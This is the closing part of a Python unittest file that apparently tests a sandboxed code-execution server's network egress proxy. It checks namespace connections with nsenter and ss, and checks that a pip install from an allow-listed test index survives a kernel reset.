            ss = subprocess.run(["nsenter", "-t", pids[0], "-n", "ss", "-tin", "state", "established",
                                 "( sport = :1023 )"], capture_output=True, text=True, check=True).stdout
            self.assertIn(":1023", ss)
            self.assertRegex(ss, r"\breno\b")
        finally:
            held.stdin.close()
            try:
                held.wait(timeout=60)
            except subprocess.TimeoutExpired:
                held.kill()
                held.wait()


def _netns(pid):
    try:
        return os.readlink("/proc/%s/ns/net" % pid)
    except OSError:
        return None


def _cmdline(pid):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            return f.read()
    except OSError:
        return b""


class Pip(EgressCase):
    def test_pip_install_through_the_proxy_survives_reset(self):
        with McpClient("--workspace", self.ws, "--allowed-domain", "a.ipybox.test", env=self.state_env(),
                       wrap=HOSTS.wrap) as c:
            text, r = c.execute("!pip install -q --cert /app/ca.pem --index-url https://a.ipybox.test/simple/ ipyboxdemo\n"
                                "import ipyboxdemo\nprint(ipyboxdemo.ANSWER)", timeout=120)
            self.assertIn("installed from the test index", text, text)
            c.call("reset")
            text, r = c.execute("import ipyboxdemo\nprint(ipyboxdemo.ANSWER, ipyboxdemo.__file__)")
            self.assertIn("installed from the test index /home/appuser/.local/", text, text)
        wheels = [e for e in self.seen("http") if e["path"].endswith(".whl")]
        self.assertEqual(len(wheels), 1, self.seen("http"))


if __name__ == "__main__":
    unittest.main()
